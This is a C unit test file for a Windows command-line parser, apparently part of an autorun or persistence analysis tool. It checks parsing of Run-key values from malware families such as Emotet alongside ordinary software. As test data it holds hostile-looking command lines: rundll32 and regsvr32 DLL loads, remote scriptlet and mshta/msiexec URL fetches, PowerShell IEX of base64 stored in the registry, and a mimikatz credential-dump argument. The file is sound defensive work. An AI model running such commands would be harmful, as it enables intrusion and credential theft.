/* Command lines: what is really run or loaded. Examples of the families and of ordinary
 * software. */
#include "fixture.h"

#include "base/alloc.h"
#include "base/cmdline.h"
#include "base/limits.h"
#include "base/winenv.h"

#include <criterion/criterion.h>
#include <stdlib.h>
#include <string.h>

#define LA "C:\\Users\\user1\\AppData\\Local"
#define RA "C:\\Users\\user1\\AppData\\Roaming"
#define SYS "C:\\Windows\\system32"
#define WOW "C:\\Windows\\SysWOW64"

struct example {
    const char *id, *command, *kind;
    const char *target; /* the preferred one; NULL: none */
    const char *argument;
};

static void check(const struct example *e)
{
    struct ac_winenv env = {0};
    struct ac_buf expanded = {0};
    struct ac_cmdline c = {0};

    cr_assert_eq(ac_winenv_standard(&env, AC_STR(""), AC_STR("C:\\Users\\user1")), AC_OK);
    ac_winenv_expand(&env, ac_str_of(e->command), &expanded);
    cr_assert_eq(ac_cmdline_parse(ac_buf_str(&expanded), &c), AC_OK);
    cr_expect_str_eq(ac_cmdline_kind_name(c.kind), e->kind, "%s: %s", e->id,
                     ac_cmdline_kind_name(c.kind));
    if (!e->target) {
        cr_expect_eq(c.targets.n, 0, "%s", e->id);
    } else {
        cr_assert_gt(c.targets.n, 0, "%s", e->id);
        cr_assert_lt(c.targets.preferred, c.targets.n, "%s", e->id);
        cr_expect_str_eq(c.targets.items[c.targets.preferred].path, e->target, "%s: %s", e->id,
                         c.targets.items[c.targets.preferred].path);
    }
    cr_expect_str_eq(c.argument, e->argument, "%s: %s", e->id, c.argument);
    ac_cmdline_free(&c);
    ac_buf_free(&expanded);
    ac_winenv_free(&env);
}

static void check_all(const struct example *e, size_t n)
{
    for (size_t i = 0; i < n; i++)
        check(&e[i]);
}

Test(cmdline, emotet)
{
    static const struct example examples[] = {
        {"E1", "\"%LOCALAPPDATA%\\Microsoft\\Windows\\dcomevent.exe\"", "program",
         LA "\\Microsoft\\Windows\\dcomevent.exe", ""},
        {"E2", "%SystemRoot%\\system32\\wmpclr.exe", "program", SYS "\\wmpclr.exe", ""},
        {"E3", WOW "\\historymachine.exe --81d93c85", "program", WOW "\\historymachine.exe", ""},
        {"E4", "%LOCALAPPDATA%\\loadatangent\\loadatangent.exe", "program",
         LA "\\loadatangent\\loadatangent.exe", ""},
        {"E5", "C:\\Users\\Holmes\\AppData\\Local\\AdaptiveCards\\mfc120esn.exe", "program",
         "C:\\Users\\Holmes\\AppData\\Local\\AdaptiveCards\\mfc120esn.exe", ""},
        {"E6", "C:\\Users\\Holmes\\AppData\\Local\\apphelp\\SndVolSSO.exe", "program",
         "C:\\Users\\Holmes\\AppData\\Local\\apphelp\\SndVolSSO.exe", ""},
        {"E7", "%LOCALAPPDATA%\\d3d11on12\\mscpxl32.exe", "program", LA "\\d3d11on12\\mscpxl32.exe",
         ""},
        {"E8", "%LOCALAPPDATA%\\SyncHost\\subst.exe", "program", LA "\\SyncHost\\subst.exe", ""},
        {"E9",
         SYS "\\rundll32.exe \"" LA "\\Ckninfwzsiyqxydc\\ialkquzoobkioba.czi\",Control_RunDLL",
         "rundll32", LA "\\Ckninfwzsiyqxydc\\ialkquzoobkioba.czi", "Control_RunDLL"},
        {"E10", "rundll32 " LA "\\Meajrcbavloy\\npuf.vya,PpNQIIzq", "rundll32",
         LA "\\Meajrcbavloy\\npuf.vya", "PpNQIIzq"},
        {"E11", "regsvr32.exe /s \"" LA "\\Phxnzljad\\wcgzvziqg.ljk\"", "regsvr32",
         LA "\\Phxnzljad\\wcgzvziqg.ljk", ""},
        {"E12", "regsvr32.exe " LA "\\Vqkwyfejbj\\dkrtkhv.ktv", "regsvr32",
         LA "\\Vqkwyfejbj\\dkrtkhv.ktv", ""},
        {"E13", "regsvr32.exe \"" LA "\\EEdafoGqJrPp\\pYvzqbuWqgBOj.dll\"", "regsvr32",
         LA "\\EEdafoGqJrPp\\pYvzqbuWqgBOj.dll", ""},
        {"E13 drop", "rundll32.exe " LA "\\EEdafoGqJrPp\\VOcAfmAvKLlv.dll,#1", "rundll32",
         LA "\\EEdafoGqJrPp\\VOcAfmAvKLlv.dll", "#1"},
        {"E14", "rundll32.exe " WOW "\\Eayrivwujhwqyyck\\eghzehtntkawqq.eqo,zWEeAQZvyy", "rundll32",
         WOW "\\Eayrivwujhwqyyck\\eghzehtntkawqq.eqo", "zWEeAQZvyy"},
        {"E14b",
         SYS "\\rundll32.exe C:\\Windows\\System32\\Eayrivwujhwqyyck\\eghzehtntkawqq.eqo,"
             "DllRegisterServer",
         "rundll32", "C:\\Windows\\System32\\Eayrivwujhwqyyck\\eghzehtntkawqq.eqo",
         "DllRegisterServer"},
        {"E15", "rundll32.exe \"" WOW "\\Rbhperfghjq\\mteekk.jdv\",UAStIhksoxJVnhD", "rundll32",
         WOW "\\Rbhperfghjq\\mteekk.jdv", "UAStIhksoxJVnhD"},
        {"E16", "regsvr32.exe /s \"" WOW "\\Dolxj\\dbqzxtpwyliqjya.bhn\"", "regsvr32",
         WOW "\\Dolxj\\dbqzxtpwyliqjya.bhn", ""},
        {"E17", "regsvr32.exe /s \"" WOW "\\Kcavz\\rlwuik.idz\"", "regsvr32",
         WOW "\\Kcavz\\rlwuik.idz", ""},
        {"E18", "regsvr32.exe " SYS "\\Vdhguolhvuubl\\cyskqyfziadors.wjz", "regsvr32",
         SYS "\\Vdhguolhvuubl\\cyskqyfziadors.wjz", ""},
        {"E19", "regsvr32.exe \"" SYS "\\QsznchRqcjKcPT\\dPusadEaxtdz.dll\"", "regsvr32",
         SYS "\\QsznchRqcjKcPT\\dPusadEaxtdz.dll", ""},
        {"E20", "regsvr32.exe \"" SYS "\\MSBjdGgEfuEG\\evPaAyJzdCSx.dll\"", "regsvr32",
         SYS "\\MSBjdGgEfuEG\\evPaAyJzdCSx.dll", ""},
        {"E21", "rundll32.exe \"" WOW "\\Ssldoupwconj\\abcdef.xyz\",Control_RunDLL", "rundll32",
         WOW "\\Ssldoupwconj\\abcdef.xyz", "Control_RunDLL"},
        {"E22", "%LOCALAPPDATA%\\mstask.exe", "program", LA "\\mstask.exe", ""},
        {"emulation", "rundll32.exe C:\\Users\\user1\\Ygyhlqt\\Bx5jfmo\\R43H.dll,Control_RunDLL",
         "rundll32", "C:\\Users\\user1\\Ygyhlqt\\Bx5jfmo\\R43H.dll", "Control_RunDLL"},
        {"spaces", "rundll32.exe C:\\Users\\John Doe\\AppData\\Local\\Abc\\def.ghi,Control_RunDLL",
         "rundll32", "C:\\Users\\John Doe\\AppData\\Local\\Abc\\def.ghi", "Control_RunDLL"},
    };

    check_all(examples, sizeof(examples) / sizeof(examples[0]));
}

Test(cmdline, second_stages)
{
    static const struct example examples[] = {
        {"U2", SYS "\\WindowsPowerShell\\v1.0\\powershell.exe -File C:\\Users\\user1\\Autoprov.ps1",
         "powershell", "C:\\Users\\user1\\Autoprov.ps1", ""},
        {"U2 lnk", "cmd /c start C:\\Users\\user1\\appvdata.lnk", "cmd",
         "C:\\Users\\user1\\appvdata.lnk", ""},
        {"U4", "regsvr32 C:\\ProgramData\\1249.jpg", "regsvr32", "C:\\ProgramData\\1249.jpg", ""},
        {"U5", "rundll32.exe C:\\yXPLXnD\\YMVsnRT\\LlwqJGc.dll,DllRegisterServer", "rundll32",
         "C:\\yXPLXnD\\YMVsnRT\\LlwqJGc.dll", "DllRegisterServer"},
        {"U6", "%PUBLIC%\\114758.exe", "program", "C:\\Users\\Public\\114758.exe", ""},
        {"U7", "rundll32 /s C:\\Windows\\Tasks\\x11ogwin.dll,recurring", "rundll32",
         "C:\\Windows\\Tasks\\x11ogwin.dll", "recurring"},
        {"T2", "%APPDATA%\\cmdcache\\sample.exe", "program", RA "\\cmdcache\\sample.exe", ""},
        {"T4", RA "\\Identities1159371911\\sfc8b4.exe", "program",
         RA "\\Identities1159371911\\sfc8b4.exe", ""},
        {"T5", "C:\\Users\\user1\\AppData\\newyearTV5382453440\\kripbnjh.exe", "program",
         "C:\\Users\\user1\\AppData\\newyearTV5382453440\\kripbnjh.exe", ""},
        {"T7", "C:\\mswvc.exe", "program", "C:\\mswvc.exe", ""},
        {"T8", "regsvr32.exe C:\\Users\\Public\\repoRequestDocument.jpg", "regsvr32",
         "C:\\Users\\Public\\repoRequestDocument.jpg", ""},
        {"T8 drop", "rundll32.exe %TEMP%\\iduD2A1.tmp,StartW", "rundll32", LA "\\Temp\\iduD2A1.tmp",
         "StartW"},
        {"Q1",
         "regsvr32.exe -s \"C:\\Users\\andre.montgomery\\AppData\\Roaming\\Microsoft\\Bbbetedog\\"
         "naqhixfsvwhmw.dll\"",
         "regsvr32",
         "C:\\Users\\andre.montgomery\\AppData\\Roaming\\Microsoft\\Bbbetedog\\naqhixfsvwhmw.dll",
         ""},
        {"Q2",
         "regsvr32.exe -s \"C:\\Users\\andre.montgomery\\AppData\\Roaming\\Microsoft\\Bbbetedog\\"
         "mewynjy.dll\"",
         "regsvr32",
         "C:\\Users\\andre.montgomery\\AppData\\Roaming\\Microsoft\\Bbbetedog\\mewynjy.dll", ""},
        {"Q3", "\"" RA "\\Microsoft\\Ouoenqud\\qyomfwmn.exe\"", "program",
         RA "\\Microsoft\\Ouoenqud\\qyomfwmn.exe", ""},
        {"Q4", "regsvr32.exe -s \"" RA "\\Microsoft\\Ejuio\\cmmgurwtmo.dll\"", "regsvr32",
         RA "\\Microsoft\\Ejuio\\cmmgurwtmo.dll", ""},
        {"Q5", "regsvr32.exe -s \"" RA "\\Microsoft\\Ccnwa\\urdvwi.dll\"", "regsvr32",
         RA "\\Microsoft\\Ccnwa\\urdvwi.dll", ""},
        {"Q6", "\"" LA "\\Temp\\Loterios.exe\" /I jxwgilxk", "program", LA "\\Temp\\Loterios.exe",
         ""},
        {"Q7", "regsvr32.exe -s \"..\\Temp\\44621.7848322917.dll\"", "regsvr32",
         "..\\Temp\\44621.7848322917.dll", ""},
        {"Q8", "regsvr32.exe -s \"" LA "\\SetupTest\\1.dll\"", "regsvr32", LA "\\SetupTest\\1.dll",
         ""},
        {"Q9",
         "powershell.exe -encodedCommand cgBlAGcAcwB2AHIAMwAyAC4AZQB4AGUAIAAiAEMAOgBcAFUAcwBlAHIAcw"
         "BcAEEAZABtAGkAbgBcAEEAcABwAEQAYQB0AGEAXABMAG8AYwBhAGwAXABUAGUAbQBwAFwAdwBoAGkAYwBoAEEAQgB"
         "5AC4AZABsAGwAIgA=",
         "regsvr32", "C:\\Users\\Admin\\AppData\\Local\\Temp\\whichABy.dll", ""},
        {"Q10",
         "cmd /c start /min \"\" powershell.exe -Command IEX([System.Text.Encoding]::ASCII."
         "GetString([System.Convert]::FromBase64String((Get-ItemProperty -Path "
         "HKCU:\\SOFTWARE\\Pvoeooxf).yzbbvhhdypa)))",
         "powershell", NULL, ""},
        {"Z1", "mshta.exe %APPDATA%\\appContast.dll", "mshta", RA "\\appContast.dll", ""},
        {"Z2", "\"" RA "\\Microsoft\\Windows\\Start Menu\\Programs\\Startup\\auto.bat\"", "program",
         RA "\\Microsoft\\Windows\\Start Menu\\Programs\\Startup\\auto.bat", ""},
    };

    check_all(examples, sizeof(examples) / sizeof(examples[0]));
}

Test(cmdline, ordinary_run_values)
{
    static const struct example examples[] = {
        {"1", "\"%LOCALAPPDATA%\\Microsoft\\OneDrive\\OneDrive.exe\" /background", "program",
         LA "\\Microsoft\\OneDrive\\OneDrive.exe", ""},
        {"2", WOW "\\OneDriveSetup.exe /thfirstsetup", "program", WOW "\\OneDriveSetup.exe", ""},
        {"3", SYS "\\cmd.exe /q /c del /q \"%LOCALAPPDATA%\\Microsoft\\OneDrive\\Update\\x.exe\"",
         "cmd", SYS "\\cmd.exe", ""},
        {"5", SYS "\\cmd.exe /q /c rmdir /s /q \"%LOCALAPPDATA%\\Microsoft\\OneDrive\\21\\amd64\"",
         "cmd", SYS "\\cmd.exe", ""},
        {"6",
         "%LOCALAPPDATA%\\Microsoft\\Teams\\Update.exe --processStart \"Teams.exe\" "
         "--process-start-args \"--system-initiated\"",
         "program", LA "\\Microsoft\\Teams\\Update.exe", ""},
        {"7", "%ProgramFiles(x86)%\\Teams Installer\\Teams.exe --checkInstall --source=PROPLUS",
         "program", "C:\\Program Files (x86)\\Teams Installer\\Teams.exe", ""},
        {"8", "\"%LOCALAPPDATA%\\slack\\slack.exe\" --process-start-args --startup", "program",
         LA "\\slack\\slack.exe", ""},
        {"9", "%LOCALAPPDATA%\\Discord\\Update.exe --processStart Discord.exe", "program",
         LA "\\Discord\\Update.exe", ""},
        {"10", "%APPDATA%\\Spotify\\Spotify.exe --autostart --minimized", "program",
         RA "\\Spotify\\Spotify.exe", ""},
        {"13", "\"%LOCALAPPDATA%\\WebEx\\WebexHost.exe\" /daemon /runFrom=autorun", "program",
         LA "\\WebEx\\WebexHost.exe", ""},
        {"14",
         "C:\\Program Files\\Google\\Drive File Stream\\1.2\\GoogleDriveFS.exe --startup_mode",
         "program", "C:\\Program Files\\Google\\Drive File Stream\\1.2\\GoogleDriveFS.exe", ""},
        {"16",
         "\"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe\" --no-startup-window "
         "/prefetch:5",
         "program", "C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe", ""},
    };

    check_all(examples, sizeof(examples) / sizeof(examples[0]));
}

Test(cmdline, ordinary_run_values_of_windows_and_drivers_and_tasks)
{
    static const struct example examples[] = {
        {"22", "C:\\Program Files (x86)\\Microsoft\\Skype for Desktop\\Skype.exe", "program",
         "C:\\Program Files (x86)\\Microsoft\\Skype for Desktop\\Skype.exe", ""},
        {"28", "C:\\Windows\\System32\\RtkAudUService64.exe -background", "program",
         "C:\\Windows\\System32\\RtkAudUService64.exe", ""},
        {"30", "%windir%\\system32\\SecurityHealthSystray.exe", "program",
         SYS "\\SecurityHealthSystray.exe", ""},
        {"31", "ctfmon.exe /n", "program", "ctfmon.exe", ""},
        {"32", SYS "\\rundll32.exe C:\\Windows\\System32\\LogiLDA.dll,LogiFetch", "rundll32",
         "C:\\Windows\\System32\\LogiLDA.dll", "LogiFetch"},
        {"33", "RUNDLL32.EXE C:\\Windows\\system32\\NvMcTray.dll,NvTaskbarInit", "rundll32",
         SYS "\\NvMcTray.dll", "NvTaskbarInit"},
        {"33b", "RUNDLL32.EXE nvcpl.dll,NvStartup", "rundll32", "nvcpl.dll", "NvStartup"},
        {"34", "\"%LOCALAPPDATA%\\Package Cache\\{G}\\python-3.9.1-amd64.exe\" /burn.runonce",
         "program", LA "\\Package Cache\\{G}\\python-3.9.1-amd64.exe", ""},
        {"35",
         "rundll32.exe C:\\WINDOWS\\system32\\advpack.dll,DelNodeRunDLL32 \"C:\\Users\\u\\AppData\\"
         "Local\\Temp\\IXP000.TMP\\\"",
         "rundll32", "C:\\WINDOWS\\system32\\advpack.dll", "DelNodeRunDLL32"},
        {"38", "\"%LOCALAPPDATA%\\Amazon Music\\Amazon Music Helper.exe\"", "program",
         LA "\\Amazon Music\\Amazon Music Helper.exe", ""},
        {"40", "%localappdata%\\Microsoft\\OneDrive\\OneDriveStandaloneUpdater.exe", "program",
         LA "\\Microsoft\\OneDrive\\OneDriveStandaloneUpdater.exe", ""},
        {"42",
         "C:\\Program Files (x86)\\Google\\Update\\GoogleUpdate.exe /ua /installsource scheduler",
         "program", "C:\\Program Files (x86)\\Google\\Update\\GoogleUpdate.exe", ""},
        {"48", SYS "\\msfeedssync.exe sync", "program", SYS "\\msfeedssync.exe", ""},
        {"50", "%windir%\\system32\\rundll32.exe Windows.Storage.ApplicationData.dll,Cleanup",
         "rundll32", "Windows.Storage.ApplicationData.dll", "Cleanup"},
        {"50b", "rundll32.exe /d acproxy.dll,PerformAutochkOperations", "rundll32", "acproxy.dll",
         "PerformAutochkOperations"},
        {"services", SYS "\\svchost.exe -k netsvcs -p", "program", SYS "\\svchost.exe", ""},
        {"driver", "\\SystemRoot\\System32\\drivers\\a.sys", "program",
         "\\SystemRoot\\System32\\drivers\\a.sys", ""},
    };

    check_all(examples, sizeof(examples) / sizeof(examples[0]));
}

Test(cmdline, interpreters_in_all_their_ways)
{
    static const struct example examples[] = {
        {"empty", "", "program", NULL, ""},
        {"blank", "  \t ", "program", NULL, ""},
        {"quote", "\"", "program", NULL, ""},
        {"rundll32 alone", "rundll32.exe", "rundll32", "rundll32.exe", ""},
        {"no extension", "rundll32 shell32,Foo", "rundll32", "shell32.dll", "Foo"},
        {"space", "rundll32 C:\\a.dll Entry x,y", "rundll32", "C:\\a.dll", "Entry"},
        {"proxy", "rundll32 shell32.dll,Control_RunDLL \"C:\\a b\\c.cpl\",x", "rundll32",
         "C:\\a b\\c.cpl", "Control_RunDLL"},
        {"proxy of its own", "rundll32 C:\\x\\evil.dll,Control_RunDLL C:\\y.cpl", "rundll32",
         "C:\\x\\evil.dll", "Control_RunDLL"},
        {"scriptlet", "regsvr32 /s /n /u /i:http://x/y.sct scrobj.dll", "regsvr32", "scrobj.dll",
         "http://x/y.sct"},
        {"two", "regsvr32 /s C:\\a.dll C:\\b.dll", "regsvr32", "C:\\a.dll", ""},
        {"no dll", "regsvr32 /s calc", "regsvr32", "calc.dll", ""},
        {"mshta url", "mshta http://x/y.hta", "mshta", NULL, "http://x/y.hta"},
        {"wscript", "wscript.exe //B //E:jscript \"C:\\a b\\c.txt\" arg", "script",
         "C:\\a b\\c.txt", "arg"},
        {"cmd quotes", "cmd /c \"C:\\Program Files\\a b.exe\" /x", "cmd",
         "C:\\Program Files\\a b.exe", ""},
        {"cmd double", "cmd.exe /c \"\"C:\\Program Files\\a b.exe\" \"x y\"\"", "cmd",
         "C:\\Program Files\\a b.exe", ""},
        {"cmd chain", "cmd /c cd /d C:\\x & rundll32 y.dll,Z", "rundll32", "y.dll", "Z"},
        {"cmd caret", "cmd /c echo a^&b && start \"t\" /d C:\\ /b C:\\q.exe", "cmd", "C:\\q.exe",
         ""},
        {"cmd glued", "cmd /q/cC:\\a.exe", "cmd", "C:\\a.exe", ""},
        {"powershell file", "powershell -w hidden -ep bypass -file C:\\a b.ps1 x", "powershell",
         "C:\\a b.ps1", ""},
        {"powershell script", "powershell.exe C:\\x.ps1", "powershell", "C:\\x.ps1", ""},
        {"powershell call", "powershell.exe -NoP -c \"& 'C:\\a b\\c.exe' x\"", "powershell",
         "C:\\a b\\c.exe", ""},
        {"powershell start", "powershell start-process -FilePath C:\\c.exe", "powershell",
         "C:\\c.exe", ""},
        {"msiexec", "msiexec /qn /i C:\\x y.msi", "msiexec", "C:\\x y.msi", ""},
        {"msiexec url", "msiexec.exe /q /ihttp://x.y/z.msi", "msiexec", NULL, "http://x.y/z.msi"},
        {"msiexec dll", "msiexec /y \"C:\\a b.dll\"", "msiexec", "C:\\a b.dll", ""},
        {"explorer", "explorer.exe /select,C:\\Users\\u\\x.exe", "explorer", "C:\\Users\\u\\x.exe",
         ""},
        {"explorer alone", "explorer.exe", "explorer", "explorer.exe", ""},
        {"conhost", "conhost --headless cmd /c start x.exe", "cmd", "x.exe", ""},
        {"console", "\\??\\" SYS "\\conhost.exe 0xffffffff -ForceV1", "conhost",
         "\\??\\" SYS "\\conhost.exe", ""},
        {"no ending", "C:\\Program Files\\Everything\\Everything -startup", "program",
         "C:\\Program Files\\Everything\\Everything.exe", ""},
    };

    check_all(examples, sizeof(examples) / sizeof(examples[0]));
}

Test(cmdline, unquoted_paths_are_read_as_createprocess_does)
{
    static const struct {
        const char *path, *rest;
    } expected[] = {
        {"C:\\Program.exe", "Files\\My App\\a.exe /x y"},
        {"C:\\Program Files\\My.exe", "App\\a.exe /x y"},
        {"C:\\Program Files\\My App\\a.exe", "/x y"},
        {"C:\\Program Files\\My App\\a.exe /x.exe", "y"},
        {"C:\\Program Files\\My App\\a.exe /x y.exe", ""},
    };
    struct ac_cmdline c = {0};

    cr_assert_eq(ac_cmdline_parse(AC_STR("C:\\Program Files\\My App\\a.exe /x y"), &c), AC_OK);
    cr_assert_eq(c.programs.n, 5);
    cr_expect_eq(c.programs.preferred, 2);
    for (size_t i = 0; i < 5; i++) {
        cr_expect_str_eq(c.programs.items[i].path, expected[i].path);
        cr_expect_str_eq(c.programs.items[i].rest, expected[i].rest);
        cr_expect_str_eq(c.targets.items[i].path, expected[i].path);
    }
    ac_cmdline_free(&c);
}

Test(cmdline, program_and_arguments_apart)
{
    struct ac_cmdline c = {0};

    cr_assert_eq(ac_cmdline_parse_pair(AC_STR("C:\\TMP\\my tool.exe"),
                                       AC_STR("sekurlsa::LogonPasswords > C:\\TMP\\o.txt"), &c),
                 AC_OK);
    cr_expect_eq(c.programs.n, 1);
    cr_expect_str_eq(c.targets.items[0].path, "C:\\TMP\\my tool.exe");
    cr_expect_str_eq(c.targets.items[0].rest, "sekurlsa::LogonPasswords > C:\\TMP\\o.txt");
    ac_cmdline_free(&c);
    cr_assert_eq(ac_cmdline_parse_pair(AC_STR("\"rundll32\""), AC_STR("C:\\a b.dll,X"), &c), AC_OK);
    cr_expect_eq(c.kind, AC_CMDLINE_RUNDLL32);
    cr_expect_str_eq(c.targets.items[c.targets.preferred].path, "C:\\a b.dll");
    cr_expect_str_eq(c.argument, "X");
    ac_cmdline_free(&c);
}

Test(cmdline, inline_text_is_kept)
{
    struct ac_cmdline c = {0};

    cr_assert_eq(ac_cmdline_parse(AC_STR("mshta \"about:<script>x</script>\""), &c), AC_OK);
    cr_expect_str_eq(c.decoded, "about:<script>x</script>");
    ac_cmdline_free(&c);
    cr_assert_eq(ac_cmdline_parse(AC_STR("powershell /EnC YQA9ADjYCwA="), &c), AC_OK);
    cr_expect_str_eq(c.decoded, "a=\\u{D838}\v");
    ac_cmdline_free(&c);
}

Test(cmdline, nesting_and_length_are_bounded)
{
    struct ac_cmdline c = {0};
    struct ac_buf b = {0};

    cr_assert_eq(ac_cmdline_parse(AC_STR("cmd /c cmd /c cmd /c cmd /c cmd /c cmd /c a.exe"), &c),
                 AC_OK);
    cr_expect(c.cut);
    ac_cmdline_free(&c);
    for (size_t i = 0; i < AC_MAX_COMMAND; i++)
        ac_buf_addz(&b, "a ");
    cr_assert_eq(ac_cmdline_parse(ac_buf_str(&b), &c), AC_OK);
    cr_expect(c.cut);
    cr_expect_leq(c.programs.n, 32);
    ac_cmdline_free(&c);
    ac_buf_free(&b);
}

Test(cmdline, every_allocation_may_fail)
{
    static const char *const commands[] = {
        "cmd /c start \"\" rundll32 shell32.dll,Control_RunDLL C:\\a b.cpl",
        "powershell -enc cgBlAGcAcwB2AHIAMwAyAC4AZQB4AGUAIABjADoAXABhAC4AZABsAGwA",
        "C:\\a b\\c d.exe x",
    };

    for (size_t i = 0; i < sizeof(commands) / sizeof(commands[0]); i++) {
        bool done = false;

        for (unsigned long n = 1; !done; n++) {
            struct ac_cmdline c = {0};
            enum ac_rc rc;

            ac_alloc_fail_at(n);
            rc = ac_cmdline_parse(ac_str_of(commands[i]), &c);
            ac_alloc_fail_at(0);
            cr_assert(rc == AC_OK || rc == AC_NOMEM);
            if (rc == AC_OK)
                ac_cmdline_free(&c);
            done = rc == AC_OK;
            cr_assert_lt(n, 1000);
        }
    }
}
